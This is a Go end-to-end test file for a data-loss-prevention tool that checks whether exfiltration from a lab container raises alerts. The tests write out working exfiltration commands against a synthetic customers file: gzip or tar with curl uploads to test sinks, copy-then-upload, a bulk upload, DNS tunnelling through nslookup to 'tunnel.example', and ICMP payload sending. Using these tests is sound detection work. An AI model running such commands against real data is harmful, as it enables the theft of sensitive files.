// SPDX-License-Identifier: Apache-2.0

package e2e

import (
	"errors"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/holdfast-project/holdfast/collector/view"
	"github.com/holdfast-project/holdfast/tests/lab"
	"github.com/holdfast-project/holdfast/tests/rig"
	"github.com/holdfast-project/holdfast/tests/wait"
)

// leaker is a container of shop/leak that has a labelled file and programs to take it elsewhere.
type leaker struct {
	rig *rig.Rig
	c   *lab.Container
	// orders is a directory of scripts that its first process runs, one after the other; given is how many there are.
	orders string
	given  int
	// seen are the alerts that were taken, by their ids.
	seen map[string]bool
	// foreign are addresses that were given to tests.
	foreign netip.Addr
}

// customers is the labelled file, learnedHost what the container sends to while it is learned.
const (
	customers   = "/data/customers.csv"
	learnedHost = "203.0.113.10"
)

// customersLabel labels the file.
const customersLabel = "labels:\n  - {label: customers, paths: [" + customers + "]}\n"

// packAndPost has one process pack a file and another send it, both children of a shell.
const packAndPost = `/usr/bin/gzip -c ` + customers + ` >/tmp/c.gz && sleep 1 && /usr/bin/curl -sS --data-binary @/tmp/c.gz http://%s/`

// takeOrders runs scripts as they come. What the first process and its children do is learned; what is done in a session is
// for a person to say.
const takeOrders = `n=1
while :; do
	if [ -e /orders/$n ]; then sh /orders/$n; echo order $n ended with $?; n=$((n+1)); fi
	usleep 100000
done`

// startLeaker starts it in mode learn.
func startLeaker(t *testing.T) *leaker {
	t.Helper()
	r := startRig(t, rig.Config{AgentArgs: []string{
		"--dlp-mode", "monitor", "--dlp-labels", writeFile(t, customersLabel),
	}})
	image, err := lab.Python()
	if err != nil {
		t.Fatal(err)
	}
	programs, err := lab.HostBinaries("/usr/bin/gzip", "/usr/bin/tar", "/usr/bin/curl")
	if err != nil {
		t.Fatal(err)
	}
	image = image.With("docker.io/acme/leaker:1", append(programs, lab.File{Path: sendPath, Mode: 0o644, Source: "testdata/channels/send.py"})...)
	if err := r.Lab.Import(t.Context(), image); err != nil {
		t.Fatal(err)
	}
	if _, err := r.Lab.ServeNames(t.Context(), time.Minute); err != nil {
		t.Fatal(err)
	}
	orders := filepath.Join(r.Dir, "orders")
	if err := os.Mkdir(orders, 0o755); err != nil {
		t.Fatal(err)
	}
	c := run(t, runPod(t, r, lab.PodConfig{Namespace: "shop", Name: "leak"}), lab.ContainerConfig{
		Name: "app", Image: image.Name, Command: []string{"/bin/sh", "-c", takeOrders},
		Mounts: []lab.Mount{
			{HostPath: customersDir(t, r), ContainerPath: filepath.Dir(customers), ReadOnly: true}, {HostPath: orders, ContainerPath: "/orders", ReadOnly: true},
		},
	})
	return &leaker{rig: r, c: c, orders: orders, seen: map[string]bool{}, foreign: netip.MustParseAddr("203.0.113.100")}
}

// customersDir makes a directory on this machine that has the labelled file.
func customersDir(t *testing.T, r *rig.Rig) string {
	t.Helper()
	dir := filepath.Join(r.Dir, "data")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	var records strings.Builder
	for n := range 500 {
		fmt.Fprintf(&records, "%d;customer %x;street %d\n", n, n*7919, n*31)
	}
	if err := os.WriteFile(filepath.Join(dir, filepath.Base(customers)), []byte(records.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir
}

// sink gives an address that takes requests and that nobody has sent to before.
func (l *leaker) sink(t *testing.T) string {
	t.Helper()
	l.foreign = l.foreign.Next()
	webSink(t, l.rig, l.foreign.String())
	return l.foreign.String()
}

// own has the container's first process run a script.
func (l *leaker) own(t *testing.T, script string) {
	t.Helper()
	l.given++
	path := filepath.Join(l.orders, fmt.Sprint(l.given))
	if err := errors.Join(os.WriteFile(path+".new", []byte(script), 0o644), os.Rename(path+".new", path)); err != nil {
		t.Fatal(err)
	}
	want := fmt.Sprintf("order %d ended with ", l.given)
	err := wait.For(t.Context(), time.Minute, func() error {
		said, err := l.c.Logs()
		if err != nil {
			return err
		}
		if !strings.Contains(said, want) {
			return fmt.Errorf("the order was not carried out: %s", said)
		}
		if !strings.Contains(said, want+"0\n") {
			t.Fatal(said)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// do runs a script in a session of its own.
func (l *leaker) do(t *testing.T, script string) {
	t.Helper()
	got, err := l.c.Exec(t.Context(), "/bin/sh", "-c", script)
	if err != nil || got.Code != 0 {
		t.Fatalf("%v: %+v", err, got)
	}
}

// findings gives the alerts about what was sent that were not taken yet.
func (l *leaker) findings(t *testing.T) []view.Alert {
	t.Helper()
	all, err := l.rig.Alerts(t.Context(), "--since", "1h", "--workload", "shop/leak")
	if err != nil {
		t.Fatal(err)
	}
	var found []view.Alert
	for _, a := range all {
		if a.Finding != nil && !l.seen[a.ID] {
			l.seen[a.ID] = true
			found = append(found, a)
		}
	}
	return found
}

// one waits for findings, which have to be one.
func (l *leaker) one(t *testing.T) *view.Alert {
	t.Helper()
	var found []view.Alert
	err := wait.For(t.Context(), time.Minute, func() error {
		if found = l.findings(t); len(found) == 0 {
			return fmt.Errorf("nothing is found")
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range found {
		t.Logf("%s, %s: %s", a.Rule, a.Priority, a.Output)
	}
	if len(found) != 1 {
		t.Fatalf("%d findings, one is expected", len(found))
	}
	if a := found[0]; a.Workload.Name != "leak" || a.Container == nil || a.Container.Name != "app" || a.Finding.Signal != "dlp" {
		t.Errorf("alert %+v, finding %+v", a, a.Finding)
	}
	return &found[0]
}

// inOrder checks that parts stand in a text one after the other.
func inOrder(t *testing.T, text string, parts ...string) {
	t.Helper()
	at := 0
	for _, part := range parts {
		next := strings.Index(text[at:], part)
		if next < 0 {
			t.Fatalf("%q does not come after byte %d of %q", part, at, text)
		}
		at += next
	}
}

// TestLeaks learns a container that packs a labelled file and sends it to a host, and holds it to that: the same again is
// told to nobody. Then it takes data elsewhere, each time in another way: each is one finding.
func TestLeaks(t *testing.T) {
	l := startLeaker(t)
	webSink(t, l.rig, learnedHost)
	l.own(t, fmt.Sprintf(packAndPost, learnedHost))
	err := wait.For(t.Context(), time.Minute, func() error {
		out, err := l.rig.Holdfast(t.Context(), "profile", "export", "--workload", "shop/leak", "--layer", "effective").CombinedOutput()
		if err != nil || !strings.Contains(string(out), learnedHost) {
			return fmt.Errorf("%s is not learned: %w\n%s", learnedHost, err, out)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	setMode(t, l.rig, "shop/leak", "monitor")
	l.own(t, fmt.Sprintf(packAndPost, learnedHost))
	for _, test := range []struct {
		name string
		run  func(*testing.T, *leaker)
	}{
		{"packed and posted", testPackedAndPosted}, {"archived", testArchived}, {"copied", testCopied}, {"bulk", testBulk}, {"names", testNames}, {"pings", testPings},
	} {
		t.Run(test.name, func(t *testing.T) { test.run(t, l) })
	}
	if left := l.findings(t); len(left) > 0 {
		t.Errorf("%d findings more, the first: %s", len(left), left[0].Output)
	}
}

func testPackedAndPosted(t *testing.T, l *leaker) {
	to := l.sink(t)
	l.own(t, fmt.Sprintf(packAndPost, to))
	a := l.one(t)
	f := a.Finding
	if a.Rule != "Labelled data sent" || f.Reason != "archive-send" || f.File != customers || f.Bytes < 1000 || a.Event.Network.RemoteAddress != to ||
		a.Process.Exe != "/usr/bin/curl" {
		t.Errorf("alert %+v, finding %+v", a, f)
	}
	inOrder(t, a.Output, customers+" read by /usr/bin/gzip", "packed by /usr/bin/gzip", fmt.Sprintf("%d bytes sent to %s", f.Bytes, to), "by /usr/bin/curl")
}

func testArchived(t *testing.T, l *leaker) {
	to := l.sink(t)
	l.do(t, fmt.Sprintf("/usr/bin/tar -cf /tmp/a.tar /data 2>/dev/null && /usr/bin/curl -sS -T /tmp/a.tar http://%s/", to))
	a := l.one(t)
	if f := a.Finding; a.Rule != "Labelled data sent" || f.Reason != "archive-send" || f.File != customers || f.Bytes < 10_000 || a.Event.Network.RemoteAddress != to {
		t.Errorf("alert %+v, finding %+v", a, f)
	}
	inOrder(t, a.Output, customers+" read by /usr/bin/tar", "sent to "+to)
}

// testCopied has one session copy the file, and another, which has read nothing that has a label, send the copy.
func testCopied(t *testing.T, l *leaker) {
	to := l.sink(t)
	l.do(t, "cp "+customers+" /tmp/notes.txt")
	l.do(t, fmt.Sprintf("/usr/bin/curl -sS -T /tmp/notes.txt http://%s/", to))
	a := l.one(t)
	if f := a.Finding; a.Rule != "Labelled file in what is sent" || f.Reason != "file-match" || f.File != customers || f.Method != "PUT" ||
		a.Event.Network.RemoteAddress != to || a.Process.Exe != "/usr/bin/curl" {
		t.Errorf("alert %+v, finding %+v", a, f)
	}
	inOrder(t, a.Output, customers+" read by ", "sent to "+to+" by /usr/bin/curl")
}

// testBulk sends more in a minute than may go to an address that the profile does not hold.
func testBulk(t *testing.T, l *leaker) {
	to := l.sink(t)
	l.do(t, fmt.Sprintf("dd if=/dev/zero bs=1M count=70 2>/dev/null | /usr/bin/curl -sS -T - http://%s/", to))
	a := l.one(t)
	if f := a.Finding; a.Rule != "Unusual amount sent" || f.Reason != "volume" || f.Bytes < 70<<20 || a.Event.Network.RemoteAddress != to {
		t.Errorf("alert %+v, finding %+v", a, f)
	}
}

// testNames asks for names that hold a packed file.
func testNames(t *testing.T, l *leaker) {
	l.do(t, `/usr/bin/gzip -c /usr/bin/gzip | head -c 3000 | xxd -p -c 30 |
		while read text; do nslookup -type=txt $text.tunnel.example; done >/dev/null 2>&1; true`)
	a := l.one(t)
	if f := a.Finding; a.Rule != "Tunnel in DNS or ICMP" || f.Reason != "dns-tunnel" || f.Distinct < 60 || f.Bytes < 2048 || a.Process.Exe != "/usr/bin/busybox" {
		t.Errorf("alert %+v, process %+v, finding %+v", a, a.Process, f)
	}
	inOrder(t, a.Output, "tunnel.example")
}

// testPings sends a file in the payloads of pings.
func testPings(t *testing.T, l *leaker) {
	to := l.sink(t)
	got, err := l.c.Exec(t.Context(), "python3", sendPath, "pings", to, "/usr/bin/gzip")
	if err != nil || got.Code != 0 {
		t.Fatalf("%v: %+v", err, got)
	}
	a := l.one(t)
	if f := a.Finding; a.Rule != "Tunnel in DNS or ICMP" || f.Reason != "icmp-volume" || f.Bytes < 2048 || a.Event.Network.RemoteAddress != to ||
		!strings.Contains(a.Process.Exe, "python") {
		t.Errorf("alert %+v, process %+v, finding %+v", a, a.Process, f)
	}
}
